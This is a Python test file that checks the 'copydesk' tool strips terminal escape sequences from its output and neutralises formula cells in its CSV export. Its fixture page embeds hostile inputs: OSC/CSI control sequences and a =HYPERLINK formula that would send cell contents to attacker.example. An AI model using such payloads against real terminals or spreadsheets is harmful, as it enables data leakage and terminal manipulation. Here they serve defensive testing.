"""Hostile text through `copydesk run`, `search` and `export --format csv`: no control character
reaches the terminal, and no cell of the CSV is a formula."""

import csv
import io
from pathlib import Path

from tests.support.workers import copydesk, environment

# An OSC sequence that retitles a terminal, a CSI that clears it, a C1 CSI, a bell.
TITLE = "Harbour reopens\x1b]0;you have been pwned\x07 after storm"
PAGE = f"""<html><head><title>{TITLE}</title>
<meta name="author" content="Ann\x1b[2J Reporter"></head><body><article>
<h1>{TITLE}</h1>
<p>=HYPERLINK("http://attacker.example/?leak="&A1, "Click") The harbour of the northern town
reopened on Tuesday morning after the storm\x9b31m had closed it for three days, the port
authority said in a statement to local reporters.</p>
<p>Fishing boats returned to their moorings by noon, and the ferry service to the islands
resumed its normal timetable in the afternoon, according to the operator.</p>
</article></body></html>"""


def test_control_characters_and_formulas_do_not_get_out(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "harbour.html").write_text(PAGE, encoding="utf-8")
    env = environment(f"sqlite:///{tmp_path / 'copydesk.db'}", "redis://127.0.0.1:1/0")
    ran = copydesk("run", str(folder), env=env, cwd=tmp_path).stdout
    found = copydesk("search", "harbour", env=env, cwd=tmp_path).stdout
    exported = copydesk("export", "--format", "csv", env=env, cwd=tmp_path).stdout
    assert "Harbour reopens]0;you have been pwned after storm" in ran
    assert "Harbour reopens" in found
    for output in (ran, found, exported):
        assert not any((ord(char) < 32 and char not in "\n\r\t") or 0x7f <= ord(char) <= 0x9f
                       for char in output), repr(output[:400])
    [row] = csv.DictReader(io.StringIO(exported.split("exported")[0]))
    assert row["text"].startswith("'=HYPERLINK(") and "storm31m had" in row["text"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
